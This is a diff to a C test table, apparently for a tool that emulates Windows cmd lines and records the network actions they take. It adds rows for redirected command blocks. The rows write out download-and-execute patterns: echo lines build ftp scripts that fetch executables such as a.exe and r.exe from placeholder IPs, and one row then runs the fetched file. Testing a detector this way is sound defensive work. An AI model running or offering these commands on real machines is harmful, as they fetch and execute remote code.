@@ -238,7 +238,11 @@ static const struct row rows[] = {
 	{"f8", "ftp -A -s:o", 0, "ftp-get 1.2.3.4:2121 a.exe anonymous/", "-A: anonymous login [ftp]"},
 	{"f9", "echo.open 1.2.3.4>o&echo.user a b>>o&echo.recv r.exe>>o&echo.bye>>o&ftp -n -s:o", 0, "ftp-get 1.2.3.4:21 r.exe a/b", "echo. writes the text after the dot; recv [echo] [ftp]"},
 	{"f10", "(echo open 1.2.3.4& echo user a b& echo get a.exe& echo bye) > o", 0, "", "a block redirected: all its echoes go in"},
-	{"f10", "ftp -n -s:o", 0, "", "not modelled: the block's redirection (known gap)"},
+	{"f10", "ftp -n -s:o", 0, "ftp-get 1.2.3.4:21 a.exe a/b", "the block's file holds its four lines [redir]"},
+	{"f12", "(echo open 1.2.3.4& echo get q.exe& echo bye) 2>nul", 0, "", "a block redirecting stderr only: the echoes go to the console"},
+	{"f12", "ftp -A -s:o", 0, "", "no file o was written"},
+	{"f12", "(echo open 1.2.3.4& echo get q.exe& echo bye)>>o & ftp -A -s:o", 0, "ftp-get 1.2.3.4:21 q.exe anonymous/", "a block appended to a file, then the script, on one line"},
+	{"f12", "((echo open 1.2.3.5) & (echo get r.exe)) > p & ftp -A -s:p & (r.exe)", 0, "ftp-get 1.2.3.5:21 r.exe anonymous/; exec r.exe", "nested blocks inside the redirected one"},
 	{"f11", "cmd /c echo open 1.2.3.4 > o & cmd /c echo get a.exe >> o", 0, "", "cmd /c echo with the outer redirection"},
 	{"f11", "ftp -A -s:o", 0, "ftp-get 1.2.3.4:21 a.exe anonymous/", "the outer redirection filled the file"},
 	/* ---- interactive ftp */
